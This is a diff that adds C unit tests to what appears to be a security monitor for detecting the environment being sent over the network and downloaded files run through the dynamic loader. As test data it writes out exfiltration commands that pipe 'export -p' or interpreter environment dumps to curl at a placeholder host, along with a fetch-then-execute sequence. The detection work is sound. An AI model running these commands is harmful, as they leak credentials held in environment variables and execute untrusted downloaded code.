@@ -1083,6 +1083,136 @@ static void test_environment_sent(void **state)
 	assert_int_equal(info_of(w, sort).sends_prov, 0);
 }
 
+/* A shell builtin (export -p, declare -x, set) dumping the environment into a network program. */
+static void test_builtin_env_sent(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell, *sh, *curl, *sub, *py;
+	char dir[] = "/tmp/bw-prov-XXXXXX", path[64];
+
+	/* export -p | curl: the writer is a subshell that never execs */
+	shell = job_shell(w);
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash",
+		ARGV("bash", "-c", "export -p | curl -s --data-binary @- http://x/c"), 0, 0, NULL);
+	sub = fork_of(w, sh);
+	curl = fork_of(w, sh);
+	(void)sub;
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "--data-binary", "@-", "http://x/c"), 70,
+		0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	/* in a script file, through a variable, curl started from a subshell */
+	temp_script(dir, path, sizeof(path), "report.sh",
+		    "#!/bin/bash\nd=$(declare -x | base64 -w0)\n( cd /tmp && curl -d \"x=$d\" http://x ) &\n");
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash", ARGV("bash", path), 0, 0, NULL);
+	sub = fork_of(w, sh);
+	curl = fork_of(w, sub);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "x=ZGVjbGFyZQ==", "http://x"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	unlink(path);
+	rmdir(dir);
+	/* the same shell sending something else; a program that sends nothing */
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash",
+		ARGV("bash", "-c", "export -p > env.txt; curl -s -o x.tgz http://x/x.tgz"), 0, 0, NULL);
+	curl = fork_of(w, sh);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "-o", "x.tgz", "http://x/x.tgz"), 0, 0,
+		NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	sh = fork_of(w, shell);
+	exec_as(w, sh, "/usr/bin/bash", ARGV("bash", "-c", "export -p | python3 fmt.py"), 0, 0, NULL);
+	py = fork_of(w, sh);
+	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "fmt.py"), 71, 0, NULL);
+	assert_int_equal(info_of(w, py).sends_prov, 0); /* it never connected */
+}
+
+/* An interpreter one-liner printing the whole environment is a dump, as env is. */
+static void test_inline_env_dump(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = job_shell(w), *dump, *curl;
+	static const char *const progs[] = {
+		"print \"$_=$ENV{$_}\\n\" for keys %ENV",
+		"import os; print(dict(os.environ))",
+		"from os import environ; [print(k, v) for k, v in environ.items()]",
+		"console.log(JSON.stringify(process.env))",
+		"puts ENV.to_h",
+	};
+	static const char *const exes[] = { "/usr/bin/perl", "/usr/bin/python3.11",
+					    "/usr/bin/python3.11", "/usr/bin/node", "/usr/bin/ruby" };
+	static const char *const flags[] = { "-e", "-c", "-c", "-e", "-e" };
+
+	for (size_t i = 0; i < sizeof(progs) / sizeof(progs[0]); i++) {
+		dump = fork_of(w, shell);
+		curl = fork_of(w, shell);
+		exec_as(w, dump, exes[i], ARGV(strrchr(exes[i], '/') + 1, flags[i], progs[i]), 0,
+			90 + i, NULL);
+		exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 90 + i, 0,
+			NULL);
+		assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	}
+	/* one variable, or the environment handed to a child, is no dump */
+	dump = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, dump, "/usr/bin/perl", ARGV("perl", "-e", "print $ENV{HOME}"), 0, 99, NULL);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 99, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	dump = fork_of(w, shell);
+	curl = fork_of(w, shell);
+	exec_as(w, dump, "/usr/bin/python3.11",
+		ARGV("python3", "-c", "import os; print(os.environ.get('CI'), os.environ['HOME'])"), 0,
+		98, NULL);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 98, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+}
+
+/* The dynamic loader run as a program: the program it runs is the exec's. */
+static void test_loader_runs_program(void **state)
+{
+	struct world *w = *state;
+	struct bw_proc *shell = job_shell(w), *curl, *run, *ldd, *sub, *sh;
+	struct bw_exec_info e;
+
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-o", "/tmp/blob", "http://x/a"), 0, 0, NULL);
+	file_op(w, curl, "open-write", "/tmp/blob", NULL);
+	run = fork_of(w, shell);
+	run->cwd = refstr_new("/tmp");
+	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		ARGV("/lib64/ld-linux-x86-64.so.2", "--library-path", "/opt/l", "./blob", "-v"), 0, 0,
+		NULL);
+	e = info_of(w, run);
+	assert_int_equal(e.exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
+	assert_string_equal(e.exe, "/tmp/blob");
+	exec_as(w, run, "/usr/lib/aarch64-linux-gnu/ld-linux-aarch64.so.1",
+		ARGV("ld-linux-aarch64.so.1", "--argv0", "x", "/dev/shm/../shm/y"), 0, 0, NULL);
+	assert_string_equal(info_of(w, run).exe, "/dev/shm/y");
+	/* a shell it runs reads its program from a pipe as any shell does */
+	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		ARGV("/lib64/ld-linux-x86-64.so.2", "/bin/sh"), 72, 0, NULL);
+	e = info_of(w, run);
+	assert_int_equal(e.program_from, BW_PROG_STDIN);
+	assert_string_equal(e.exe, "/bin/sh");
+	/* --verify, --list and ldd's trace run nothing */
+	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		ARGV("/lib64/ld-linux-x86-64.so.2", "--verify", "/tmp/blob"), 0, 0, NULL);
+	e = info_of(w, run);
+	assert_int_equal(e.exe_prov, 0);
+	assert_null(e.exe);
+	ldd = fork_of(w, shell);
+	exec_as(w, ldd, "/usr/bin/bash", ARGV("/bin/bash", "/usr/bin/ldd", "/tmp/blob"), 0, 0, NULL);
+	sub = fork_of(w, ldd);
+	sh = fork_of(w, sub);
+	exec_as(w, sh, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		ARGV("/lib64/ld-linux-x86-64.so.2", "/tmp/blob"), 0, 0, NULL);
+	assert_int_equal(info_of(w, sh).exe_prov, 0);
+	/* no program named */
+	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+		ARGV("/lib64/ld-linux-x86-64.so.2", "--library-path"), 0, 0, NULL);
+	assert_null(info_of(w, run).exe);
+}
+
 static bool mismatch(struct world *w, const char *exe, const char *filename, const char *argv0)
 {
 	struct bw_proc *p = fork_of(w, NULL);
@@ -1150,6 +1280,9 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_stdout_file_then_connect, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_shell_memory_writer, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_environment_sent, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_builtin_env_sent, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_inline_env_dump, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_loader_runs_program, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_archive_extracted, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_parent_fed_and_relay, setup, teardown),
 	};
